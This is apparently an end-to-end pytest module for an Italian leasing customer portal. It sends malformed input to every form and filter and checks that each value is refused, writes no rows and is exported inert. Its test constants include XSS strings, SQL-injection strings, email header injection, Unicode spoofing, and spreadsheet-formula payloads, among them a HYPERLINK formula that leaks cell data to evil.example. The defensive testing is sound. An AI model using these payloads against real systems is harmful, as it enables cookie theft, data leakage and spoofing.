"""Malformed input through the real websocket: every form and filter of the app, sent by a crafted
client (a signed-in customer, or nobody for the public forms) with over-long strings, control
characters, wrong JSON types, far dates, Unicode tricks, markup and spreadsheet formulas.

Each value must come back with a message next to its field (the field's error var, not a toast),
write no row (the tables a form writes are counted before and after) and log no error (the autouse
fixture of conftest.py). A value that is legitimately accepted (a formula-looking sentence in a free
message) is stored as typed, inert, and the Excel writer stores such a text as text, never as a formula.
"""

from __future__ import annotations

import dataclasses
import datetime as dt
from collections.abc import Callable
from typing import Any

import pytest
import sqlalchemy as sa

from tests.e2e.conftest import RunningApp, db_rows
from tests.support.reflex_socket import Answer, ReflexSocket, state_event

CUSTOMER = "10093"
# Every table a form of the portal can write to: none may grow from a refused value.
WRITTEN_TABLES = (
    "service_request",
    "request_message",
    "request_attachment",
    "request_contact",
    "request_status_change",
    "notification",
    "user_account",
    "sub_user_contract",
    "password_reset_token",
    "registration_request",
    "mail_outbox",
    "mail_message",
)

LONG = "A" * 10_000
NUL = "abc\x00def"
CRLF = "abc\r\nBcc: spy@evil.example"
ESC = "abc\x1b[2J\x1b[31mred"
RTL = "fattura\u202efdp.exe"  # shows as "fatturaexe.pdf"
ISOLATE = "abc\u2066def\u2069"
SURROGATE = "abc\ud800def"  # a lone surrogate: JSON's \ud800 escape, valid JSON, not valid text
HOMOGLYPH_EMAIL = "рaypal@example.it"  # the first letter is Cyrillic
ZERO_WIDTH_EMAIL = "ma\u200brio@example.it"
COMBINING_EMAIL = "mario\u0301\u0301\u0301@example.it"
SCRIPT = "<script>alert(document.cookie)</script>"
IMG = '"><img src=x onerror=alert(1)>'
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Clicca")'
CMD = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"

WRONG_TYPES: dict[str, Any] = {"list": ["abc"], "dict": {"value": "abc"}, "number": 12345, "float": 1e308}


@dataclasses.dataclass(frozen=True)
class Case:
    target: str  # a key of TARGETS
    field: str
    value: Any
    label: str

    @property
    def id(self) -> str:
        return f"{self.target}-{self.field}-{self.label}"


def _cases(target: str, field: str, values: dict[str, Any]) -> list[Case]:
    return [Case(target, field, value, label) for label, value in values.items()]


def _future(days: int) -> str:
    return (dt.date.today() + dt.timedelta(days=days)).isoformat()


TEXT_TRICKS = {"nul": NUL, "crlf": CRLF, "esc": ESC, "rtl-override": RTL, "bidi-isolate": ISOLATE}
EMAIL_TRICKS = {
    "long": "a" * 10_000 + "@example.it",
    "nul": "mario\x00@example.it",
    "crlf-header": "mario@example.it\r\nBcc: spy@evil.example",
    "homoglyph": HOMOGLYPH_EMAIL,
    "zero-width": ZERO_WIDTH_EMAIL,
    "combining": COMBINING_EMAIL,
    "script": '"<script>"@example.it',
    "formula": "=HYPERLINK(1)@example.it",
}
DATE_TRICKS = {
    "year-1": "0001-01-01",
    "year-9999": "9999-12-31",
    "feb-30": "2030-02-30",
    "italian-format": "31/12/2030",
    "month-13": "2030-13-01",
    "sql": "2030-01-01' OR '1'='1",
    "number": 20300101,
}

CASES: list[Case] = [
    # public forms, anonymous
    *_cases("login", "username", {"long": LONG, **TEXT_TRICKS, **WRONG_TYPES}),
    *_cases("login", "password", {"long": LONG, "list": ["x"], "dict": {"a": 1}}),
    *_cases("forgot", "email", {**EMAIL_TRICKS, **WRONG_TYPES}),
    *_cases("unlock", "username", {"long": LONG, "nul": NUL, "list": ["10093"]}),
    *_cases("unlock", "contract_number", {"negative": "-1", "huge": "9" * 400, "list": ["1"], "formula": CMD}),
    *_cases("unlock", "tax_code", {"long": LONG, "script": SCRIPT}),
    *_cases("registration", "contract_number", {"sql": "1 OR 1=1", "number": -5, "rtl": "12\u202e34"}),
    *_cases("registration", "module_number", {"long": LONG, "nul": NUL}),
    *_cases("registration", "tax_code", {"homoglyph": "RSSMRА80A01H501U", "null": None}),
    *_cases("registration", "email", {"long": EMAIL_TRICKS["long"], "homoglyph": HOMOGLYPH_EMAIL, "dict": {"a": 1}}),
    *_cases("reset", "new_password", {"long": LONG, "list": ["Sicura-2030!x"]}),
    *_cases("accessibility", "email", {**EMAIL_TRICKS, **WRONG_TYPES}),
    *_cases("accessibility", "name", {"long": LONG, "crlf": CRLF, "nul": NUL}),
    *_cases("accessibility", "description", {"long": LONG, "nul": NUL, "esc": ESC, "rtl": RTL, **WRONG_TYPES}),
    # profile settings and sub-users, signed in
    *_cases("profile", "secondary_email", {**EMAIL_TRICKS, **WRONG_TYPES}),
    *_cases("profile", "primary_email", {"long": EMAIL_TRICKS["long"], "crlf-header": EMAIL_TRICKS["crlf-header"]}),
    *_cases("profile", "language", {"unknown": "xx", "long": LONG, "list": ["it"]}),
    *_cases("subuser", "first_name", {"long": LONG, **TEXT_TRICKS, "list": ["Mario"], "null": None}),
    *_cases("subuser", "last_name", {"surrogate": SURROGATE, "dict": {"a": 1}}),
    *_cases("subuser", "primary_email", {**EMAIL_TRICKS}),
    # the self-service forms
    *_cases("iban_change", "new_iban", {"long": LONG, "nul": "IT60X0542811101000000123456\x00", "formula": HYPERLINK}),
    *_cases("iban_change", "new_iban", {"homoglyph": "IТ60X0542811101000000123456", "list": ["IT60X"]}),
    *_cases("iban_change", "start_date", DATE_TRICKS),
    *_cases("iban_change", "contract", {"sql": "' OR 1=1 --", "huge": "9" * 30, "number": -1}),
    *_cases("address_change", "new_address", {"long": LONG, **TEXT_TRICKS, "surrogate": SURROGATE, **WRONG_TYPES}),
    *_cases("address_change", "start_date", {"year-1": "0001-01-01", "year-9999": "9999-12-31", "empty": ""}),
    *_cases("address_change", "message", {"long": LONG, "nul": NUL, "esc": ESC, "rtl": RTL}),
    *_cases("early_termination", "last_instalment", {"negative": "-1", "huge": "99999999999", "number": 3}),
    *_cases("machine_ticket", "subject", {"long": LONG, "crlf": CRLF, "nul": NUL}),
    *_cases("machine_ticket", "ticket_type", {"script": SCRIPT, "list": ["fault"]}),
    *_cases("machine_ticket", "machine", {"sql": "1 OR 1=1", "negative": -1}),
    *_cases("machine_ticket", "contacts", {"too-many": "a@b.it, c@d.it, e@f.it, g@h.it", "crlf": CRLF}),
    *_cases("machine_ticket", "contacts", {"homoglyph": HOMOGLYPH_EMAIL, "long": LONG}),
    *_cases("other", "request_type", {"img": IMG, "dict": {"a": 1}}),
    *_cases("other", "message", {"long": LONG, "nul": NUL, "surrogate": SURROGATE, "list": ["x"]}),
    # request replies
    *_cases("reply", "body", {"long": LONG, "nul": NUL, "esc": ESC, "rtl": RTL, **WRONG_TYPES}),
    # filters
    *_cases("billing_period", "date_from", DATE_TRICKS | {"dict": {"a": 1}}),
]


@pytest.fixture(scope="module")
def customer(cookies) -> str:
    return cookies(CUSTOMER)


def table_counts(app: RunningApp) -> dict[str, int]:
    with app.engine.connect() as connection:
        return {
            table: connection.execute(sa.text(f"select count(*) from {table}")).scalar_one() for table in WRITTEN_TABLES
        }


def _settled(app: RunningApp, before: dict[str, int]) -> dict[str, int]:
    """The counts now, with mail the sender moved from the outbox to its log meanwhile counted once
    (a mail written before the test may be sent during it)."""
    now = table_counts(app)
    moved = now["mail_message"] - before["mail_message"]
    if moved > 0 and now["mail_outbox"] == before["mail_outbox"] - moved:
        now = {**now, "mail_outbox": before["mail_outbox"], "mail_message": before["mail_message"]}
    return now


# Each target sends the bad value where it belongs and returns the message shown for the field.
Sender = Callable[[Any, ReflexSocket, str, Any], str]


def _public(state_path: str, path: str, fields: dict[str, str], error: Callable[[str], str] = lambda f: f"{f}_error"):
    def send(ctx, tab: ReflexSocket, field: str, value: Any) -> str:
        state = _state(state_path)
        form = {**fields, field: value}
        if field == "new_password":  # the reset page checks a password only when both fields agree
            form["confirm_password"] = value
        query = {"token": ctx.reset_token} if path == "/reimposta-password" else {}
        answer = tab.send(state_event(state, "submit"), {"form_data": form}, path=path, query=query)
        return answer.var(error(field))

    return send


def _state(dotted: str):
    module, name = dotted.rsplit(".", 1)
    return getattr(__import__(module, fromlist=[name]), name)


def _profile(ctx, tab: ReflexSocket, field: str, value: Any) -> str:
    state = _state("portal.pages.profile.settings.ProfileState")
    tab.send(state_event(state, "load"), path="/profilo")
    current = db_rows(ctx.app, "select primary_email from user_account where username = :u", u=CUSTOMER)[0][0]
    form = {"language": "it", "paper_invoices": "", "primary_email": current, "secondary_email": "", field: value}
    answer = tab.send(state_event(state, "save_settings"), {"form_data": form}, path="/profilo")
    return answer.var("settings_errors").get(field, "")


def _subuser(ctx, tab: ReflexSocket, field: str, value: Any) -> str:
    state = _state("portal.pages.profile.sub_users.SubUsersState")
    tab.send(state_event(state, "load"), path="/profilo")
    tab.send(state_event(state, "open_new_sub_user"), path="/profilo")
    form = {
        "first_name": "Mario",
        "last_name": "Rossi",
        "primary_email": "mario.rossi@example.it",
        "secondary_email": "",
    }
    answer = tab.send(state_event(state, "save_sub_user"), {"form_data": {**form, field: value}}, path="/profilo")
    return answer.var("sub_user_errors").get(field, "")


def _good_values(form_key: str) -> dict[str, str]:
    return {
        "iban_change": {"new_iban": "IT60X0542811101000000123456", "start_date": _future(10), "message": ""},
        "address_change": {"start_date": _future(10), "new_address": "Via Roma 1, 00100 Roma", "message": ""},
        "early_termination": {"message": ""},
        "machine_ticket": {
            "ticket_type": "fault",
            "subject": "Non parte",
            "machine_status": "stopped",
            "description": "Si ferma dopo un minuto.",
            "contacts": "",
        },
        "other": {"request_type": "other", "message": "Una domanda."},
    }[form_key]


def _form(form_key: str) -> Sender:
    def send(ctx, tab: ReflexSocket, field: str, value: Any) -> str:
        fill_form(tab, form_key, {field: value})
        answer = tab.send(
            state_event(_new_request(), "submit"),
            {"form_data": {}},
            path="/richieste/nuova",
            query={"modulo": form_key},
        )
        return answer.var("errors").get(field, "")

    return send


def _new_request():
    return _state("portal.pages.new_request.NewRequestState")


def _first_option(answer: Answer, key: str) -> str:
    spec = next(s for s in answer.var("specs") if s["key"] == key)
    return spec["options"][0]["value"] if spec["options"] else ""


def fill_form(tab: ReflexSocket, form_key: str, values: dict[str, Any]) -> Answer:
    """Open the form and answer every field well, except those in `values` (sent as they are)."""
    state, path, query = _new_request(), "/richieste/nuova", {"modulo": form_key}
    answer = tab.send(state_event(state, "load"), path=path, query=query)

    def setting(key: str, value: Any) -> Answer:
        return tab.send(state_event(state, "set_field"), {"key": key, "value": value}, path=path, query=query)

    keys = {spec["key"] for spec in answer.var("specs")}
    # Choices read from the database first (the instalments depend on the contract).
    for key in ("contract", "machine", "last_instalment"):
        if key in keys:
            answer = setting(key, values[key] if key in values else _first_option(answer, key))
    for key, value in {**_good_values(form_key), **values}.items():
        if key not in ("contract", "machine", "last_instalment"):
            answer = setting(key, value)
    return answer


def _reply(ctx, tab: ReflexSocket, field: str, value: Any) -> str:
    state = _state("portal.pages.request_detail.RequestDetailState")
    code = db_rows(
        ctx.app,
        "select r.code from service_request r join customer c on c.id = r.customer_id where c.code = :c"
        " and r.status not in ('resolved', 'rejected') order by r.id limit 1",
        c=CUSTOMER,
    )[0][0]
    path, query = "/richieste/dettaglio", {"codice": code}
    tab.send(state_event(state, "load"), path=path, query=query)
    answer = tab.send(state_event(state, "reply"), {"form_data": {field: value}}, path=path, query=query)
    return answer.var("reply_error")


def _billing_period(ctx, tab: ReflexSocket, field: str, value: Any) -> str:
    state = _state("portal.pages.billing.state.BillingState")
    tab.send(state_event(state, "load"), path="/fatture-e-pagamenti")
    form = {"date_from": "", "date_to": "", field: value}
    answer = tab.send(state_event(state, "apply_period"), {"form_data": form}, path="/fatture-e-pagamenti")
    return answer.var("period_error")


IDENTITY = {"contract_number": "1234567", "module_number": "1", "tax_code": "RSSMRA80A01H501U"}
TARGETS: dict[str, tuple[bool, Sender]] = {  # (signed in as the customer, sender)
    "login": (False, _public("portal.pages.login.LoginState", "/login", {"username": "nessuno", "password": "x"})),
    "forgot": (
        False,
        _public("portal.pages.forgot_password.ForgotPasswordState", "/password-dimenticata", {"email": ""}),
    ),
    "unlock": (
        False,
        _public("portal.pages.unlock.UnlockState", "/login-bloccata", {"username": "nessuno", **IDENTITY}),
    ),
    "registration": (
        False,
        _public(
            "portal.pages.registration.RegistrationState",
            "/registrazione",
            {**IDENTITY, "email": "nuovo@example.it"},
        ),
    ),
    "reset": (
        False,
        _public(
            "portal.pages.reset_password.ResetPasswordState",
            "/reimposta-password",
            {"new_password": "", "confirm_password": ""},
            error=lambda field: "password_error",
        ),
    ),
    "accessibility": (
        False,
        _public(
            "portal.pages.accessibility.AccessibilityState",
            "/accessibilita",
            {"name": "", "email": "maria.rossi@example.org", "page": "", "description": "Un problema di prova."},
        ),
    ),
    "profile": (True, _profile),
    "subuser": (True, _subuser),
    "iban_change": (True, _form("iban_change")),
    "address_change": (True, _form("address_change")),
    "early_termination": (True, _form("early_termination")),
    "machine_ticket": (True, _form("machine_ticket")),
    "other": (True, _form("other")),
    "reply": (True, _reply),
    "billing_period": (True, _billing_period),
}


@dataclasses.dataclass
class Context:
    app: RunningApp
    reset_token: str


@pytest.fixture(scope="module")
def context(app) -> Context:
    """A live reset link of an account no other test signs in with (the reset page checks the new
    password only under a valid link); it is never used, since every password sent is refused."""
    import secrets

    from portal.services.access.sessions import token_digest

    token = secrets.token_urlsafe(32)
    now = dt.datetime.now(dt.UTC).replace(tzinfo=None)
    with app.engine.begin() as connection:
        user_id = connection.execute(sa.text("select id from user_account where username = '12006'")).scalar_one()
        connection.execute(
            sa.text(
                "insert into password_reset_token (user_id, token_hash, purpose, expires_at, used_at, created_at)"
                " values (:u, :h, 'reset', :e, null, :n)"
            ),
            {"u": user_id, "h": token_digest(token), "e": now + dt.timedelta(minutes=30), "n": now},
        )
    yield Context(app, token)
    with app.engine.begin() as connection:
        connection.execute(
            sa.text("delete from password_reset_token where token_hash = :h"), {"h": token_digest(token)}
        )


TRIED: list[str] = []


@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
def test_a_malformed_value_gets_its_fields_message_and_writes_nothing(app, mailbox, tab, cookies, context, case):
    signed_in, send = TARGETS[case.target]
    connection = tab(cookies(CUSTOMER) if signed_in else "")
    before = table_counts(app)

    message = send(context, connection, case.field, case.value)

    TRIED.append(case.id)
    assert isinstance(message, str) and message.strip(), f"no message for {case.field}"
    assert table_counts(app) == _settled(app, before)


# Handlers that take a plain value (filters, pickers, pagers): nonsense leaves the list as it was
# (or unfiltered) and stores nothing. (state, handler, page, payload, a var and what it must show)
def _filter_cases() -> list[tuple[str, str, str, str, dict[str, Any], str, Any]]:
    billing = "portal.pages.billing.state.BillingState"
    requests = "portal.pages.requests.RequestsState"
    assets = "portal.pages.assets.AssetsState"
    found = []
    for label, value in {"script": SCRIPT, "long": LONG, "list": ["paid"], "dict": {"a": 1}, "null": None}.items():
        found.append(
            (
                f"billing-status-{label}",
                billing,
                "choose_status",
                "/fatture-e-pagamenti",
                {"value": value},
                "status",
                "all",
            )
        )
        found.append(
            (f"requests-status-{label}", requests, "choose_status", "/richieste", {"value": value}, "status", "all")
        )
    for label, value in {"sql": "1' OR '1'='1", "number": 90317, "huge": "9" * 400, "list": ["90317"]}.items():
        found.append(
            (
                f"assets-contract-{label}",
                assets,
                "choose_contract",
                "/beni-in-locazione",
                {"value": value},
                "contract",
                "all",
            )
        )
        found.append(
            (f"requests-form-{label}", requests, "choose_form", "/richieste", {"value": value}, "form_key", "")
        )
    # the contract search (billing's, as the pages share it): a text, or nothing
    for label, value in {"number": 90317, "list": ["903"], "dict": {"a": 1}, "null": None}.items():
        found.append(
            (
                f"contract-search-{label}",
                billing,
                "search_contracts",
                "/fatture-e-pagamenti",
                {"text": value},
                "contract_search",
                "",
            )
        )
    found.append(
        (
            "contract-search-long",
            billing,
            "search_contracts",
            "/fatture-e-pagamenti",
            {"text": LONG},
            "contract_search",
            LONG.strip()[:40],
        )
    )
    return found


FILTER_CASES = _filter_cases()


@pytest.mark.parametrize(
    ("label", "state_path", "handler", "path", "payload", "var", "shown"),
    FILTER_CASES,
    ids=[case[0] for case in FILTER_CASES],
)
def test_a_filter_given_nonsense_shows_nothing_it_should_not(
    app, tab, cookies, label, state_path, handler, path, payload, var, shown
):
    state = _state(state_path)
    connection = tab(cookies(CUSTOMER))
    connection.send(state_event(state, "load"), path=path)
    before = table_counts(app)

    answer = connection.send(state_event(state, handler), payload, path=path)

    TRIED.append(label)
    assert answer.var(var) == shown
    assert table_counts(app) == _settled(app, before)


# Texts a free message may legitimately hold: kept as typed, shown as text, exported as text.
INERT = [HYPERLINK, CMD, AT_SUM, MINUS, SCRIPT, IMG, "Z\u0351\u0358a\u0353l\u0339g\u0328o", "pa\u200by\u200dpal"]


def test_formulas_and_markup_in_a_free_message_are_stored_as_typed_and_exported_as_text(
    app, tab, cookies, tidy, tmp_path
):
    from openpyxl import load_workbook

    from portal.pages.request_detail import RequestDetailState
    from portal.services.common.xlsx import Column, write_workbook

    tidy.drop_new_requests()
    connection = tab(cookies(CUSTOMER))
    text = "\n".join(INERT)
    fill_form(connection, "other", {"message": text})
    answer = connection.send(
        state_event(_new_request(), "submit"), {"form_data": {}}, path="/richieste/nuova", query={"modulo": "other"}
    )
    code = answer.redirects()[0].split("codice=")[1]
    path, query = "/richieste/dettaglio", {"codice": code}
    connection.send(state_event(RequestDetailState, "load"), path=path, query=query)
    connection.send(
        state_event(RequestDetailState, "reply"), {"form_data": {"body": HYPERLINK}}, path=path, query=query
    )
    TRIED.extend(f"inert-{index}" for index in range(len(INERT) + 1))

    stored = db_rows(
        app,
        "select m.body from request_message m join service_request r on r.id = m.request_id where r.code = :c"
        " order by m.id",
        c=code,
    )
    assert [body for (body,) in stored] == [text, HYPERLINK]
    # Nothing the customer types reaches an export today; the one writer every export uses stores
    # such a text as a string cell, never as a formula.
    path = tmp_path / "inert.xlsx"
    write_workbook(path=path, sheet_title="t", columns=[Column("requests.reply")], rows=[[t] for t in INERT], lang="it")
    cells = [row[0] for row in load_workbook(path).active.iter_rows(min_row=2)]
    assert [(cell.value, cell.data_type) for cell in cells] == [(t, "s") for t in INERT]


def test_closing_figures(app):
    """The figures the closing note quotes (the autouse fixture has checked each test's log)."""
    refused = [label for label in TRIED if not label.startswith("inert-")]
    print(f"\nbad inputs tried: {len(refused)} refused + {len(TRIED) - len(refused)} accepted as inert text")
    assert len(refused) >= 50
